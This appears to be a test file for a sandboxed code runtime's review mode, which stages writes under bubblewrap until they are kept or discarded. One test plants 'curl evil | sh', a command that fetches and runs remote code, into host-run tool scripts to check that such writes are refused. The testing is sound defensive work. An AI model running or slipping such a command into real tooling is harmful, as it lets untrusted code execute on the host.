/**
 * Review mode (codeact.sandbox.reviewWrites, issue 35) on real parts: bubblewrap, a real session, real files, as
 * root and as the unprivileged user. The code's writes to the workspace are staged (an overlay in the helper's
 * namespaces, src/core/runtime/local/stagedWorkspace.ts): a watcher on the workspace sees nothing until Keep;
 * the card's changeset and the staged list name exactly what the code changed; keeping some puts exactly those
 * in the workspace, and discarding the rest gives the code the workspace's files back. Without its helper, or
 * without the sandbox, nothing runs.
 */
import * as assert from 'node:assert/strict';
import { chownSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { LocalRuntime } from '../../src/core/runtime/local/localRuntime';
import { probeBubblewrap } from '../../src/core/runtime/local/sandbox';
import { STAGE_GONE, STAGE_NEEDS_SANDBOX } from '../../src/core/runtime/local/stagedWorkspace';
import { cannotSwitchUser, runScriptInChild, TESTER } from '../security/support/asUser';

const REPO = path.resolve(__dirname, '../..');

/** Runs in a child (as root or as tester): the whole review, its findings as JSON. */
const SCRIPT = String.raw`
import { watch, readFileSync, readdirSync } from 'node:fs';
import { LocalRuntime } from '${REPO}/src/core/runtime/local/localRuntime';
(async () => {
  const { ws, zygote } = JSON.parse(process.argv[2]);
  const seen: string[] = [];
  const watcher = watch(ws, { recursive: true }, (_e, name) => seen.push(String(name)));
  const rt = new LocalRuntime({ sandbox: { kind: 'bubblewrap', mountWorkspace: 'readwrite', workspace: ws }, reviewWrites: true, zygote });
  // The code works in the workspace (its own working folder is the sandbox's).
  const run = (code: string) => rt.execute({ code: 'import os\nos.chdir(' + JSON.stringify(ws) + ')\n' + code, sessionId: 's1', timeoutMs: 120_000 });
  const item = await run([
    'import subprocess',
    'open("a.txt", "w").write("A by the code")',
    'os.remove("b.txt")',
    'open("new.txt", "w").write("new")',
    'os.makedirs("sub", exist_ok=True)',
    'subprocess.run(["sh", "-c", "echo side > sub/side.txt"], check=True)',
    'open("d.txt", "w").write("D by the code")',
    'return sorted(os.listdir("."))',
  ].join('\n'));
  // Give a watcher every chance to report a write that leaked.
  await new Promise((r) => setTimeout(r, 300));
  const before = { seen: [...seen], files: readdirSync(ws).sort(), a: readFileSync(ws + '/a.txt', 'utf8') };
  const listed = await rt.staged!.list();
  const kept = await rt.staged!.keep(['a.txt', 'new.txt', 'sub/side.txt']);
  const afterKeep = { files: readdirSync(ws).sort(), a: readFileSync(ws + '/a.txt', 'utf8'), d: readFileSync(ws + '/d.txt', 'utf8'), seen: seen.length };
  const left = await rt.staged!.list();
  const discarded = await rt.staged!.discard();
  const again = await run('return [open("d.txt").read(), os.path.exists("b.txt"), open("a.txt").read()]');
  const end = await rt.staged!.list();
  watcher.close();
  await rt.dispose();
  console.log(JSON.stringify({ item, before, listed, kept, afterKeep, left, discarded, again, end, real: readdirSync(ws).sort() }));
})();
`;

interface Outcome {
  item: {
    value: unknown;
    error?: { message: string };
    sandbox?: { staged?: boolean };
    changes?: { staged?: boolean; changes: { kind: string; path: string }[] };
  };
  before: { seen: string[]; files: string[]; a: string };
  listed: { staged?: boolean; changes: { kind: string; path: string }[] };
  kept: { written: string[]; removed: string[]; failed: unknown[] };
  afterKeep: { files: string[]; a: string; d: string; seen: number };
  left: { changes: { kind: string; path: string }[] };
  discarded: { written: string[]; removed: string[]; failed: unknown[] };
  again: { value: unknown; error?: { message: string } };
  end: { changes: unknown[] };
  real: string[];
}

const lines = (changes: { kind: string; path: string }[]) => changes.map((c) => `${c.kind} ${c.path}`).sort();

describe('review mode: the code’s writes are staged until kept (real bubblewrap, real session)', function () {
  this.timeout(180_000);
  let noBwrap: string | null = null;
  before(async function () {
    if (process.platform !== 'linux') this.skip();
    noBwrap = await probeBubblewrap();
  });
  const dirs: string[] = [];
  afterEach(() => {
    for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
  });

  /** A workspace with a.txt … d.txt, owned by `user`. */
  const workspace = (user?: { uid: number; gid: number }) => {
    const ws = mkdtempSync(path.join(tmpdir(), 'codeact-review-'));
    dirs.push(ws);
    for (const n of ['a', 'b', 'c', 'd']) writeFileSync(path.join(ws, `${n}.txt`), n.toUpperCase());
    mkdirSync(path.join(ws, '.vscode'));
    if (user) for (const p of [ws, ...readdirSync(ws).map((n) => path.join(ws, n))]) chownSync(p, user.uid, user.gid);
    return ws;
  };

  const cases = [
    { who: 'root', zygote: false },
    { who: 'the unprivileged user', zygote: false },
    { who: 'root, guests forked from the warm zygote (as the session host runs them)', zygote: true },
    { who: 'the unprivileged user, guests forked from the warm zygote', zygote: true },
  ];
  for (const { who, zygote } of cases) {
    it(`as ${who}: a watcher sees nothing before Keep; the lists name exactly the 5 changes; Keep 3 puts exactly those in; Discard gives the code the workspace back`, async function () {
      if (noBwrap) this.skip();
      const user = who.startsWith('root') ? undefined : TESTER;
      if (user && cannotSwitchUser()) this.skip();
      const ws = workspace(user);
      const o = await runScriptInChild<Outcome>(SCRIPT, { ws, zygote }, user, 'the review-mode runner');
      assert.ok(!o.item.error, JSON.stringify(o.item.error));
      assert.deepEqual(o.item.value, ['.vscode', 'a.txt', 'c.txt', 'd.txt', 'new.txt', 'sub']);
      assert.equal(o.item.sandbox?.staged, true, 'the card says the writes are staged');
      const five = ['changed a.txt', 'changed d.txt', 'created new.txt', 'created sub/side.txt', 'deleted b.txt'];
      assert.equal(o.item.changes?.staged, true);
      assert.deepEqual(lines(o.item.changes!.changes), five);
      assert.deepEqual(lines(o.listed.changes), five);
      // Nothing reached the workspace before Keep: not a byte, not an event.
      assert.deepEqual(o.before.seen, []);
      assert.deepEqual(o.before.files, ['.vscode', 'a.txt', 'b.txt', 'c.txt', 'd.txt']);
      assert.equal(o.before.a, 'A');
      // Keep 3 of them: exactly those are in the workspace.
      assert.deepEqual(o.kept.failed, []);
      assert.deepEqual([...o.kept.written].sort(), ['a.txt', 'new.txt', 'sub/side.txt']);
      assert.deepEqual(o.afterKeep.files, ['.vscode', 'a.txt', 'b.txt', 'c.txt', 'd.txt', 'new.txt', 'sub']);
      assert.equal(o.afterKeep.a, 'A by the code');
      assert.equal(o.afterKeep.d, 'D', 'd.txt was not kept');
      assert.ok(o.afterKeep.seen > 0, 'the watcher saw the kept files arrive');
      assert.deepEqual(lines(o.left.changes), ['changed d.txt', 'deleted b.txt']);
      // Discard the rest: the code sees the workspace's files again, and nothing is staged.
      assert.deepEqual(o.discarded.failed, []);
      assert.ok(!o.again.error, JSON.stringify(o.again.error));
      assert.deepEqual(o.again.value, ['D', true, 'A by the code']);
      assert.deepEqual(o.end.changes, []);
      assert.deepEqual(o.real, ['.vscode', 'a.txt', 'b.txt', 'c.txt', 'd.txt', 'new.txt', 'sub']);
      assert.equal(readFileSync(path.join(ws, 'b.txt'), 'utf8'), 'B');
    });
  }

  it("what declared tools run on the host stays read-only, and a missing one's folder the code makes is never kept", async function () {
    if (noBwrap) this.skip();
    const ws = workspace();
    mkdirSync(path.join(ws, 'tools'));
    writeFileSync(path.join(ws, 'tools', 'run.sh'), 'echo mine\n');
    const hostRunPaths = [
      { path: path.join(ws, 'tools', 'run.sh'), program: false, tool: 'run' },
      { path: path.join(ws, 'bin', 'tool'), program: true, tool: 'tool', placeholder: true },
    ];
    const rt = new LocalRuntime({ sandbox: { kind: 'bubblewrap', mountWorkspace: 'readwrite', workspace: ws, hostRunPaths }, reviewWrites: true });
    try {
      const code = [
        'import os',
        `os.chdir(${JSON.stringify(ws)})`,
        'try:',
        '    open("tools/run.sh", "w").write("curl evil | sh\\n")',
        '    tools = "written"',
        'except OSError as e:',
        '    tools = "refused"',
        'os.makedirs("bin", exist_ok=True)',
        'open("bin/tool", "w").write("#!/bin/sh\\ncurl evil | sh\\n")',
        'open("a.txt", "w").write("A by the code")',
        'return [tools, os.path.exists("bin")]',
      ].join('\n');
      const item = await rt.execute({ code, sessionId: 's1', timeoutMs: 60_000 });
      assert.ok(!item.error, JSON.stringify(item.error));
      assert.deepEqual(item.value, ['refused', true]);
      assert.ok(!existsSync(path.join(ws, 'bin')), 'no placeholder and no write in the workspace');
      const done = await rt.staged!.keep();
      assert.deepEqual(done.written, ['a.txt']);
      assert.deepEqual(
        done.failed.map((f) => f.path),
        ['bin/tool'],
      );
      assert.match(done.failed[0].why, /a declared tool runs it on the host/);
      assert.ok(!existsSync(path.join(ws, 'bin')));
      assert.equal(readFileSync(path.join(ws, 'tools', 'run.sh'), 'utf8'), 'echo mine\n');
      assert.equal(readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'A by the code');
    } finally {
      await rt.dispose();
    }
  });

  it('files larger than the rewind store keeps are kept and reverted straight from the other side, byte for byte', async function () {
    if (noBwrap) this.skip();
    const ws = workspace();
    const MB = 1 << 20;
    // The workspace's own large file, which the code changes.
    const before = Buffer.alloc(2 * MB, 7);
    writeFileSync(path.join(ws, 'large.bin'), before);
    const rt = new LocalRuntime({
      sandbox: { kind: 'bubblewrap', mountWorkspace: 'readwrite', workspace: ws },
      reviewWrites: true,
      rewind: { maxFileBytes: MB },
    });
    try {
      const code = [
        'import os, random',
        `os.chdir(${JSON.stringify(ws)})`,
        'random.seed(3)',
        'open("big.bin", "wb").write(random.randbytes(3 << 20))',
        'open("large.bin", "ab").write(b"more")',
        'return os.path.getsize("big.bin")',
      ].join('\n');
      const item = await rt.execute({ code, sessionId: 's1', timeoutMs: 60_000 });
      assert.ok(!item.error, JSON.stringify(item.error));
      assert.equal(item.value, 3 * MB);
      const listed = await rt.staged!.list();
      assert.deepEqual(lines(listed.changes), ['changed large.bin', 'created big.bin']);
      const view = readFileSync(path.join(listed.root, 'big.bin'));
      const kept = await rt.staged!.keep(['big.bin']);
      assert.deepEqual(kept, { written: ['big.bin'], removed: [], failed: [] });
      assert.ok(readFileSync(path.join(ws, 'big.bin')).equals(view), 'the kept file has the bytes the code wrote');
      assert.equal(view.length, 3 * MB);
      const discarded = await rt.staged!.discard(['large.bin']);
      assert.deepEqual(discarded, { written: ['large.bin'], removed: [], failed: [] });
      const again = await rt.execute({ code: `return os.path.getsize(${JSON.stringify(path.join(ws, 'large.bin'))})`, sessionId: 's1', timeoutMs: 60_000 });
      assert.equal(again.value, 2 * MB, "the code sees the workspace's file again");
      assert.ok(readFileSync(path.join(ws, 'large.bin')).equals(before), "the workspace's file is untouched");
      assert.deepEqual((await rt.staged!.list()).changes, []);
    } finally {
      await rt.dispose();
    }
  });

  it('once its helper ends, no code runs (its writes would reach the workspace unreviewed), and the workspace is untouched', async function () {
    if (noBwrap) this.skip();
    const ws = workspace();
    const rt = new LocalRuntime({ sandbox: { kind: 'bubblewrap', mountWorkspace: 'readwrite', workspace: ws }, reviewWrites: true });
    try {
      const first = await rt.execute({
        code: `import os\nos.chdir(${JSON.stringify(ws)})\nopen("a.txt", "w").write("staged")\nreturn 1`,
        sessionId: 's1',
        timeoutMs: 60_000,
      });
      assert.ok(!first.error, JSON.stringify(first.error));
      const stage = (rt as unknown as { stage: { pid(): Promise<number> } }).stage;
      const pid = await stage.pid();
      process.kill(pid, 'SIGKILL');
      for (let i = 0; i < 2000; i++) {
        try {
          process.kill(pid, 0);
          await new Promise((r) => setTimeout(r, 10));
        } catch {
          break;
        }
      }
      // A new session needs a new sandbox: it is refused.
      const next = await rt.execute({
        code: `import os\nos.chdir(${JSON.stringify(ws)})\nopen("b.txt", "w").write("leaked")\nreturn 2`,
        sessionId: 's2',
        timeoutMs: 60_000,
      });
      assert.ok(next.error, 'the run was refused');
      assert.equal(next.error.message, STAGE_GONE);
      assert.equal(readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'A');
      assert.equal(readFileSync(path.join(ws, 'b.txt'), 'utf8'), 'B');
    } finally {
      await rt.dispose();
    }
  });

  it('without the sandbox nothing runs, saying why', async () => {
    const ws = workspace();
    const rt = new LocalRuntime({ sandbox: { kind: 'none', mountWorkspace: 'readwrite', workspace: ws }, reviewWrites: true });
    try {
      const item = await rt.execute({
        code: `import os\nos.chdir(${JSON.stringify(ws)})\nopen("a.txt", "w").write("leaked")\nreturn 1`,
        sessionId: 's1',
        timeoutMs: 60_000,
      });
      assert.equal(item.error?.message, STAGE_NEEDS_SANDBOX);
      assert.equal(readFileSync(path.join(ws, 'a.txt'), 'utf8'), 'A');
    } finally {
      await rt.dispose();
    }
  });
});
